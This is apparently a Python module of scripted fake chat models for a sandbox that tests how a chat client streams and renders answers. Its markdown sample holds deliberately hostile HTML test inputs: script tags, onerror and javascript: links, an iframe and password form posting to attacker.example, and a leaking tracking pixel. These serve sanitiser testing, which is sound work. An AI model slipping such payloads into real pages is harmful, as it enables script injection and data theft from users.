"""What each model of the sandbox says and does.

A script is a list of steps; :mod:`.chat` turns the steps into a stream or into one answer.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass


@dataclass(frozen=True)
class Text:
    """A piece of the answer; one piece counts as one token."""

    text: str


@dataclass(frozen=True)
class Thought:
    """A piece of reasoning."""

    text: str


@dataclass(frozen=True)
class Wait:
    """Seconds without a byte, times the pace."""

    seconds: float


@dataclass(frozen=True)
class KeepAlive:
    """A comment line."""


@dataclass(frozen=True)
class Fault:
    """An error chunk, which ends the stream."""

    code: int | str
    message: str
    error_type: str


@dataclass(frozen=True)
class Stop:
    """The stream ends without a finish chunk and without [DONE]."""

    cut: bool = False


Step = Text | Thought | Wait | KeepAlive | Fault | Stop
_WORD = re.compile(r"\s*\S+\s*")

MARKDOWN = """# A heading

Some *emphasis*, some **strength**, `inline code` and a [good link](https://example.org/).

## A list

1. One
2. Two
   - nested
   - [x] done

```python
def greet(name: str) -> str:
    return f"Hello, {name} <b>&amp;</b>"
```

| model | price |
|:------|------:|
| echo  | $1.00 |
| slow  | $2.00 |

> A quotation.

Hostile parts follow; none of them may do anything.

<script>window.hacked = true; document.title = "hacked"</script>
<img src="x" onerror="window.hacked = true">
<iframe src="https://attacker.example/"></iframe>
<style>body { display: none }</style>
<a href="javascript:window.hacked=true">raw link</a>
<form action="https://attacker.example/"><input name="password"></form>

[script link](javascript:window.hacked=true) and [data link](data:text/html,<script>1</script>)

![tracking pixel](https://attacker.example/pixel.png?leak=1)

```html
<script>window.hacked = true</script>
```

The end.
"""
SPLIT = "Grüße aus dem Bienenstock: 🐝🍯 Žluťoučký kůň, 日本語のテキスト, עברית, 👩‍👩‍👧 naïve café."


def words(text: str, gap: float = 0.03) -> Iterator[Step]:
    """Say a text word by word."""
    for word in _WORD.findall(text) or ([text] if text else []):
        yield Text(word)
        yield Wait(gap)


def _echo(prompt: str) -> Iterator[Step]:
    yield KeepAlive()
    yield from words(prompt)


def _slow(prompt: str) -> Iterator[Step]:
    yield KeepAlive()
    yield Text("Counting slowly:")
    for number in range(1, 41):
        yield Wait(0.25)
        yield Text(f" {number}")


def _markdown(prompt: str) -> Iterator[Step]:
    yield from words(MARKDOWN, 0.005)


def _reasoning(prompt: str) -> Iterator[Step]:
    for thought in (
        "The user wrote ",
        f"{len(prompt)} characters. ",
        "A short answer ",
        "will do.",
    ):
        yield Thought(thought)
        yield Wait(0.2)
    yield from words(f"After some thought: {prompt}")


def _cut(prompt: str) -> Iterator[Step]:
    yield from words("This answer breaks off in the")
    yield Stop(cut=True)


def _unfinished(prompt: str) -> Iterator[Step]:
    yield from words("This answer stops without saying")
    yield Stop()


def _mid_error(prompt: str) -> Iterator[Step]:
    yield from words("This answer meets an")
    yield Fault(502, "Provider disconnected", "provider_unavailable")


def _mid_error_text(prompt: str) -> Iterator[Step]:
    # The documentation's streaming page shows a string where the schema has a number.
    yield from words("This answer meets an")
    yield Fault("server_error", "Provider disconnected", "provider_unavailable")


def _silent(prompt: str) -> Iterator[Step]:
    for _ in range(600):
        yield KeepAlive()
        yield Wait(1)
    yield Text("Still here.")


def _stall(prompt: str) -> Iterator[Step]:
    yield Wait(600)
    yield Stop()


def _split(prompt: str) -> Iterator[Step]:
    yield from words(SPLIT, 0)


def _long(prompt: str) -> Iterator[Step]:
    for number in range(1, 4001):
        yield Text(f"word{number} " if number % 20 else f"word{number}\n\n")


def _empty(prompt: str) -> Iterator[Step]:
    yield KeepAlive()


SCRIPTS: dict[str, Callable[[str], Iterator[Step]]] = {
    "echo": _echo,
    "slow": _slow,
    "markdown": _markdown,
    "reasoning": _reasoning,
    "cut": _cut,
    "cut-clean": _unfinished,
    "mid-error": _mid_error,
    "mid-error-text": _mid_error_text,
    "silent": _silent,
    "stall": _stall,
    "split": _split,
    "long": _long,
    "empty": _empty,
}
